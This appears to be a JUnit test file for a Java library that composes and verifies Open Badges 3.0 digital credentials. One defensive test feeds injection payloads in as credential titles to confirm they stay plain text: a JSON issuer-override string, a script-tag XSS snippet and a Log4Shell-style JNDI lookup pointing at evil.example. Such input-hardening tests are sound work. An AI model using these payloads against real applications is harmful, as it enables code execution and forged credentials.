package dev.cairn.credentials.compose;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.networknt.schema.InputFormat;
import com.networknt.schema.Schema;
import com.networknt.schema.SchemaRegistry;
import com.networknt.schema.SpecificationVersion;
import dev.cairn.credentials.Samples;
import dev.cairn.credentials.linkeddata.CredentialText;
import dev.cairn.credentials.verify.CredentialVerifier;
import dev.cairn.credentials.verify.Outcome;
import java.io.IOException;
import java.io.InputStream;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class CredentialComposerTest {
    /** 1EdTech's strict schema, in which sets must be lists. */
    @Test
    void ourOutputFitsTheStrictSchema() throws Exception {
        assertThat(strictSchema().validate(text(Samples.endorsedCredential()), InputFormat.JSON))
                .isEmpty();
    }

    @Test
    void theStrictSchemaIsNotBlind() throws Exception {
        ObjectNode broken = Samples.endorsedCredential();
        ((ObjectNode) broken.at("/credentialSubject/achievement")).remove("criteria");
        assertThat(strictSchema().validate(text(broken), InputFormat.JSON)).isNotEmpty();
    }

    @Test
    void ourOutputFitsTheLenientSchemaToo() {
        assertThat(new CredentialVerifier()
                        .withSchemaCheck()
                        .verify(Samples.endorsedCredential(), Samples.bothKnown(), Samples.LATER)
                        .outcome())
                .isEqualTo(Outcome.VALID);
    }

    /** Decision 6: awardedDate is local midnight of the day earned, validFrom the instant of signing. */
    @Test
    void datesSayWhatTheyDate() {
        JsonNode credential = CredentialComposer.compose(Samples.content("Infection control", List.of()));
        assertThat(credential.get("awardedDate").textValue()).isEqualTo("2026-03-12T00:00:00+11:00");
        assertThat(credential.get("validFrom").textValue()).isEqualTo("2026-03-14T03:04:05Z");
    }

    @Test
    void unitsAndLevelAreAlignments() {
        JsonNode credential = CredentialComposer.compose(Samples.content("Infection control", List.of()));
        JsonNode alignments = credential.at("/credentialSubject/achievement/alignment");
        assertThat(alignments.findValuesAsText("targetCode")).containsExactly("3", "HLTINF006", "HLTWHS001");
        assertThat(alignments.get(1).get("targetUrl").textValue())
                .isEqualTo("https://training.gov.au/training/details/HLTINF006");
    }

    /** Whatever people type as a title is data: the document stays whole, and verifies with that very title. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "\"}, \"issuer\": \"did:web:evil.example\", \"x\": {\"",
                "</script><script>alert(1)</script>",
                "@type",
                "Pflege & Hygiene – 感染管理 🧼",
                "line\nbreak\ttab\u0000nul\u2028",
                "https://www.w3.org/ns/credentials/v2",
                "${jndi:ldap://evil.example/a}",
                "\\u0022"
            })
    void strangeTitlesAreText(String title) throws Exception {
        byte[] text = CredentialText.write(Samples.sign(CredentialComposer.compose(Samples.content(title, List.of()))));
        ObjectNode read = CredentialText.read(text);
        assertThat(read.at("/credentialSubject/achievement/name").textValue()).isEqualTo(title);
        assertThat(read.at("/issuer/id").textValue()).isEqualTo("did:web:institute.example:issuers:42");
        assertThat(new CredentialVerifier()
                        .verify(read, Samples.bothKnown(), Samples.LATER)
                        .outcome())
                .isEqualTo(Outcome.VALID);
    }

    @Test
    void unsignedEndorsementsHaveNoWayIn() {
        ObjectNode unsigned =
                Samples.endorsement(Samples.EMPLOYER_KEY).deepCopy().without("proof");
        assertThatThrownBy(() -> Samples.content("x", List.of(unsigned)))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("without a proof");
    }

    @ParameterizedTest
    @CsvSource({"60, 60", "60.0, 60", "7.50, 7.5", "0.25, 0.25"})
    void creditPointsAreWrittenAsPeopleWriteThem(BigDecimal points, String written) {
        AchievementContent plain = Samples.achievement("x");
        AchievementContent content =
                new AchievementContent(plain.id(), plain.type(), "x", "d", "c", "X", "1", null, points, List.of());
        assertThat(AchievementJson.write(content, "en-AU").toString())
                .contains("\"creditsAvailable\":" + written + ",");
    }

    /** The worked example of Open Badges 3.0. */
    @Test
    void emailHashIsTheStandards() {
        EmailIdentity identity = EmailIdentity.of("A@Example.com", "Kosher");
        assertThat(identity.hash())
                .isEqualTo("sha256$b5809d8a92f8858436d7e6b87c12ebc0ae1eac4baecc2c0b913aee2c922ef399");
        assertThat(identity.matches("a@example.com")).isTrue();
        assertThat(identity.matches("b@example.com")).isFalse();
    }

    @ParameterizedTest
    @CsvSource({
        "Certificate III in Individual Support, Certificate",
        "Diploma of Nursing, Diploma",
        "Advanced Diploma of Hospitality Management, Diploma",
        "Graduate Certificate in Management, ext:GraduateCertificate",
        "Graduate Diploma of Portfolio Management, ext:GraduateDiploma",
        "Bachelor of Nursing, BachelorDegree",
        "Something else, ext:Qualification"
    })
    void qualificationsAreNamedByTheirTitles(String title, String term) {
        assertThat(AchievementType.ofQualification(title).term()).isEqualTo(term);
    }

    private static String text(ObjectNode node) {
        return new String(CredentialText.write(node), StandardCharsets.UTF_8);
    }

    private static Schema strictSchema() throws IOException {
        try (InputStream in =
                CredentialVerifier.class.getResourceAsStream("schemas/ob_v3p0_achievementcredential_schema.json")) {
            return SchemaRegistry.withDefaultDialect(SpecificationVersion.DRAFT_2019_09)
                    .getSchema(in);
        }
    }
}
